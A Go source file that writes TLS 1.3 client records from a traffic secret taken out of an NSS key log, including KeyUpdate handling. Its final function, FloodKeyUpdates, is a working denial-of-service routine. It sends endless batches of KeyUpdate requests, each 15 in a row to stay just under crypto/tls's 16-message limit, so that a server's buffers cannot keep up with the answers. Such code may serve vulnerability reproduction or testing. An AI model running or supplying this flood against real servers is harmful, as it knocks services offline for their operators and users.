package tlsrecord

import (
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"strings"
)

// Writer13 writes TLS 1.3 records with TLS_AES_128_GCM_SHA256 in the
// client's place, from its traffic secret (RFC 8446 sections 5.2 and 7).
type Writer13 struct {
	// W is where the sealed records go: the client's socket, or a buffer
	// to send several in one write.
	W      io.Writer
	secret []byte
	aead   cipher.AEAD
	iv     []byte
	seq    uint64
}

// New13 takes CLIENT_TRAFFIC_SECRET_0 from an NSS key log.
func New13(w io.Writer, keyLog string) (*Writer13, error) {
	for _, line := range strings.Split(keyLog, "\n") {
		if f := strings.Fields(line); len(f) == 3 && f[0] == "CLIENT_TRAFFIC_SECRET_0" {
			secret, err := hex.DecodeString(f[2])
			if err != nil {
				return nil, err
			}
			r := &Writer13{W: w}
			return r, r.setSecret(secret)
		}
	}
	return nil, fmt.Errorf("no CLIENT_TRAFFIC_SECRET_0 in the key log:\n%s", keyLog)
}

func (w *Writer13) setSecret(secret []byte) error {
	key, err := expandLabel(secret, "key", 16)
	if err != nil {
		return err
	}
	if w.iv, err = expandLabel(secret, "iv", 12); err != nil {
		return err
	}
	block, err := aes.NewCipher(key)
	if err != nil {
		return err
	}
	w.secret, w.seq = secret, 0
	w.aead, err = cipher.NewGCM(block)
	return err
}

// expandLabel is HKDF-Expand-Label with an empty context.
func expandLabel(secret []byte, label string, n int) ([]byte, error) {
	full := "tls13 " + label
	info := append(binary.BigEndian.AppendUint16(nil, uint16(n)), byte(len(full)))
	info = append(append(info, full...), 0)
	return hkdf.Expand(sha256.New, secret, string(info), n)
}

// Record seals inner plaintext of content type typ and writes it.
func (w *Writer13) Record(typ byte, content []byte) error {
	inner := append(append([]byte(nil), content...), typ)
	hdr := []byte{23, 3, 3, 0, 0}
	binary.BigEndian.PutUint16(hdr[3:], uint16(len(inner)+w.aead.Overhead()))
	nonce := append([]byte(nil), w.iv...)
	for i := range 8 {
		nonce[len(nonce)-1-i] ^= byte(w.seq >> (8 * i))
	}
	w.seq++
	_, err := w.W.Write(w.aead.Seal(hdr, nonce, inner, hdr))
	return err
}

// KeyUpdate sends KeyUpdate(update_requested) and moves to the next
// traffic secret.
func (w *Writer13) KeyUpdate() error {
	if err := w.Record(22, []byte{24, 0, 0, 1, 1}); err != nil {
		return err
	}
	next, err := expandLabel(w.secret, "traffic upd", sha256.Size)
	if err != nil {
		return err
	}
	return w.setSecret(next)
}

// Data sends application data.
func (w *Writer13) Data(p []byte) error { return w.Record(23, p) }

// FloodKeyUpdates sends to conn, until a write fails, batches of 20
// rounds, each 15 key updates with update_requested (crypto/tls takes at
// most 16 handshake messages in a row without data) and a record of data:
// more requests than a server's buffers take answers to as soon as a
// batch lands, however the goroutine is scheduled. w's records are sealed
// into a batch first (w.W is replaced).
func (w *Writer13) FloodKeyUpdates(conn io.Writer, data []byte) {
	var batch bytes.Buffer
	w.W = &batch
	for {
		batch.Reset()
		for range 20 {
			for range 15 {
				w.KeyUpdate()
			}
			w.Data(data)
		}
		if _, err := conn.Write(batch.Bytes()); err != nil {
			return
		}
	}
}
